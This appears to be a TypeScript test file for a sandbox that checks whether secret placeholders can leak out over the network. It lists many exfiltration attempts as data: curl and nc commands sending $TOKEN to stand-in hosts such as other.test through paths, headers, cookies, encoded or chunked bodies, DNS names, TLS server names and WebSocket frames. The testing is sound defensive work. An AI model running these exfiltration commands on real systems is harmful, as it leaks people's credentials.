import { gzipSync } from 'node:zlib';
import { type Attack, refused } from './attack.ts';
import {
  get,
  http2,
  http2WithTrailer,
  lines,
  overTls,
  plain,
  pseudo,
  webSocket,
  webSocketFrame,
} from './guest-lines.ts';

const LEAK = refused('secret_leak');
const leak = (place: string) => ({ kind: 'secret_leak' as const, place });
const curl = (...args: readonly string[]) => `curl -sS -m 8 ${args.join(' ')}`;
const AUTHORIZATION = '-H "authorization: Bearer $TOKEN"';

interface Row {
  readonly name: string;
  readonly line: Attack['line'];
  readonly place: string;
  readonly sees?: RegExp;
  readonly arrives?: RegExp;
}

function out({ name, line, place, sees = LEAK, arrives }: Row): Attack {
  const event = leak(place);
  return { name: `a placeholder in ${name}`, line, sees, event, ...(arrives && { arrives }) };
}

const twice = (text: string) => encodeURIComponent(encodeURIComponent(text));
const everyByte = (text: string) => Buffer.from(text).toString('hex').replace(/../g, '%$&');
/** Half of a placeholder is none: what came before it may pass. */
const HALF = /^POST \/half (?!.*GONDOLIN_SECRET_[0-9a-f]{32})/s;

const heads: readonly Attack[] = [
  out({ name: 'the path', place: 'path', line: () => curl('"https://api.test/x/$TOKEN"') }),
  out({ name: 'the query', place: 'query', line: () => curl('"https://api.test/?token=$TOKEN"') }),
  out({
    name: 'the path, percent-encoded',
    place: 'path',
    line: ({ placeholder }) => curl(`https://api.test/${everyByte(placeholder)}`),
  }),
  out({
    name: 'the query, percent-encoded twice',
    place: 'query',
    line: ({ placeholder }) => curl(`'https://api.test/?t=${twice(everyByte(placeholder))}'`),
  }),
  out({
    name: 'the path, in base64',
    place: 'path',
    line: () => curl('"https://api.test/$(printf "a%s" $TOKEN | base64 -w0 | tr "/+" "_-")"'),
  }),
  out({
    name: 'the query, in hexadecimal',
    place: 'query',
    line: () => curl('"https://api.test/?t=$(printf %s $TOKEN | od -An -tx1 | tr -d " \\n")"'),
  }),
  out({
    name: 'the path, in other capitals',
    place: 'path',
    line: () => curl('"https://api.test/$(printf %s $TOKEN | tr A-Z a-z)"'),
  }),
  out({
    name: 'the name of a field',
    place: 'header',
    line: () => curl('-H "x-$TOKEN: 1" https://api.test/'),
  }),
  out({
    name: 'the method',
    place: 'connection',
    line: ({ placeholder }) => {
      const [, ...rest] = pseudo('api.test');
      return overTls('api.test', http2([[':method', placeholder], ...rest]), { alpn: 'h2' });
    },
  }),
  out({
    name: 'a header to another host',
    place: 'header',
    line: () => curl(AUTHORIZATION, 'https://other.test/'),
  }),
  out({
    name: 'a header over plain HTTP',
    place: 'header',
    line: () => curl(AUTHORIZATION, 'http://plain.test/'),
  }),
  out({
    name: 'a header to another host, in base64',
    place: 'header',
    line: () => curl('-H "x: $(printf "ab%s" $TOKEN | base64 -w0)" https://other.test/'),
  }),
  out({
    name: 'a header to another host, in hexadecimal',
    place: 'header',
    line: () =>
      curl('-H "x: $(printf %s $TOKEN | od -An -tx1 | tr -d " \\n")" https://other.test/'),
  }),
  out({
    name: 'a cookie to another host',
    place: 'header',
    line: () => curl('-b "sid=$TOKEN" https://other.test/'),
  }),
  out({
    name: 'the referrer to another host',
    place: 'header',
    line: () => curl('-e "https://x/$TOKEN" https://other.test/'),
  }),
  out({
    name: 'Basic credentials to another host',
    place: 'header',
    line: () => curl('-u "me:$TOKEN" https://other.test/'),
  }),
  out({
    name: 'the user of a URL of another host',
    place: 'header',
    line: () => curl('"https://$TOKEN@other.test/"'),
  }),
  out({
    name: 'a header of HTTP/2 to another host',
    place: 'header',
    line: ({ placeholder }) =>
      overTls('other.test', http2([...pseudo('other.test'), ['x', placeholder]]), { alpn: 'h2' }),
  }),
  out({
    name: 'TE, a framing field',
    place: 'header',
    line: ({ placeholder }) =>
      overTls('api.test', get('api.test', '/', `X-Api: 1`, `Trailer: ${placeholder}`)),
  }),
];

/** A body is on its way before the placeholder in it is found: the connection ends, and the server never gets it whole. */
const BREAKS = /secret_leak|Empty reply|reset|unexpected eof|transfer closed|HTTP\/2 stream|^$/;

const bodies: readonly Attack[] = [
  out({
    name: 'a body to the listed host',
    place: 'body',
    line: () => curl('-d "token=$TOKEN" https://api.test/half'),
    sees: BREAKS,
    arrives: /^(?:POST \/half|$)/,
  }),
  out({
    name: 'a body to another host',
    place: 'body',
    line: () => curl('-d "token=$TOKEN" https://other.test/half'),
    sees: BREAKS,
    arrives: /^(?:POST \/half|$)/,
  }),
  out({
    name: 'a body over plain HTTP',
    place: 'body',
    line: () => curl('-d "token=$TOKEN" http://plain.test/half'),
    sees: BREAKS,
    arrives: /^(?:POST \/half|$)/,
  }),
  out({
    name: 'a multipart body',
    place: 'body',
    line: () => curl('-F "a=@/etc/hostname" -F "t=$TOKEN" https://other.test/half'),
    sees: BREAKS,
    arrives: /^(?:POST \/half|$)/,
  }),
  out({
    name: 'a gzip body',
    place: 'body',
    line: () =>
      `printf 'token %s' $TOKEN | gzip | ${curl('--data-binary @- -H "content-encoding: gzip" https://other.test/half')}`,
    sees: BREAKS,
    arrives: /^(?:POST \/half|$)/,
  }),
  out({
    name: 'a body compressed twice',
    place: 'body',
    line: () =>
      `printf 'token %s' $TOKEN | gzip | gzip | ${curl('--data-binary @- -H "content-encoding: gzip, gzip" https://other.test/half')}`,
    sees: BREAKS,
    arrives: /^(?:POST \/half|$)/,
  }),
  out({
    name: 'two members of gzip, the second',
    place: 'body',
    line: ({ placeholder }) =>
      plain(
        'plain.test',
        80,
        Buffer.concat([
          Buffer.from(
            lines(
              'POST /half HTTP/1.1',
              'Connection: close',
              'Host: plain.test',
              'Content-Encoding: gzip',
              `Content-Length: ${gzipSync('a').length + gzipSync(placeholder).length}`,
            ),
          ),
          gzipSync('a'),
          gzipSync(placeholder),
        ]),
      ),
    sees: BREAKS,
    arrives: /^(?:POST \/half|$)/,
  }),
  out({
    name: 'a body in base64',
    place: 'body',
    line: () =>
      `printf 'x%s' $TOKEN | base64 -w0 | ${curl('--data-binary @- https://other.test/half')}`,
    sees: BREAKS,
    arrives: /^(?:POST \/half|$)/,
  }),
  out({
    name: 'a body in hexadecimal',
    place: 'body',
    line: () =>
      `printf %s $TOKEN | od -An -tx1 | tr -d ' \\n' | ${curl('--data-binary @- https://other.test/half')}`,
    sees: BREAKS,
    arrives: /^(?:POST \/half|$)/,
  }),
  out({
    name: 'a body, across two chunks',
    place: 'body',
    line: ({ placeholder: text }) =>
      plain(
        'plain.test',
        80,
        `${lines('POST /half HTTP/1.1', 'Connection: close', 'Host: plain.test', 'Transfer-Encoding: chunked')}14\r\n${text.slice(0, 20)}\r\n1c\r\n${text.slice(20)}\r\n0\r\n\r\n`,
      ),
    sees: BREAKS,
    arrives: /^(?:$|POST \/half)/,
  }),
  out({
    name: 'a body, one byte at a time',
    place: 'body',
    line: () =>
      `(printf 'POST /half HTTP/1.1\\r\\nConnection: close\\r\\nHost: plain.test\\r\\nContent-Length: %d\\r\\n\\r\\n' \${#TOKEN}; for ((i = 0; i < \${#TOKEN}; i++)); do printf %s "\${TOKEN:i:1}"; sleep 0.01; done) | nc -q 2 -w 4 plain.test 80`,
    sees: BREAKS,
    arrives: HALF,
  }),
  out({
    name: 'a trailer',
    place: 'trailer',
    line: ({ placeholder }) =>
      overTls('h2.test', http2WithTrailer('h2.test', ['x-last', placeholder]), { alpn: 'h2' }),
    sees: /./s,
    arrives: /^(?![\s\S]*GONDOLIN)/,
  }),
  out({
    name: 'a WebSocket message',
    place: 'websocket',
    line: ({ placeholder }) =>
      overTls('api.test', webSocket('api.test', [], webSocketFrame(`token ${placeholder}`))),
    sees: /101 Switching/,
    arrives: /^GET \/chat (?![\s\S]*GONDOLIN)/,
  }),
  out({
    name: 'a WebSocket message, across two frames',
    place: 'websocket',
    line: ({ placeholder }) =>
      overTls(
        'api.test',
        webSocket(
          'api.test',
          [],
          webSocketFrame(placeholder.slice(0, 20), 0x01),
          webSocketFrame(placeholder.slice(20), 0x80),
        ),
      ),
    sees: /101 Switching/,
    arrives: /^GET \/chat /,
  }),
  out({
    name: 'a WebSocket ping',
    place: 'websocket',
    line: ({ placeholder }) =>
      overTls('api.test', webSocket('api.test', [], webSocketFrame(placeholder, 0x89))),
    sees: /101 Switching/,
    arrives: /^GET \/chat /,
  }),
  out({
    name: 'raw TCP',
    place: 'tcp',
    line: ({ ports }) => `printf 'auth %s\\n' $TOKEN | nc -N -w 3 db.test ${ports['db.test']}`,
    sees: /db ready|^$|reset/,
    arrives: /^(?![\s\S]*GONDOLIN_SECRET_[0-9a-f]{32})/,
  }),
];

export const OUT_ATTACKS: readonly Attack[] = [
  ...heads,
  ...bodies,
  {
    name: 'a placeholder as a DNS name',
    line: () => 'getent ahostsv4 "$(printf %s $TOKEN | tr _ - | tr A-Z a-z).denied.test" | head -1',
    sees: /^198\.1[89]\./,
  },
  {
    name: 'a placeholder as the server name of TLS',
    line: () =>
      'timeout 6 openssl s_client -quiet -connect api.test:443 -servername "$TOKEN" < /dev/null',
    sees: /./s,
  },
  {
    name: 'a placeholder as Host',
    line: ({ placeholder }) => overTls('api.test', get(placeholder)),
    sees: /name_mismatch|secret_leak/,
  },
  {
    name: 'a guess of the value is not told from any other text',
    line: () =>
      `a=$(${curl('-o /dev/null -w "%{http_code}" -H "x-guess: c4n4ry" https://other.test/')}); b=$(${curl('-o /dev/null -w "%{http_code}" -H "x-guess: zzzzzz" https://other.test/')}); echo $a $b`,
    sees: /^200 200\n$/,
    arrives: 'anything',
  },
];
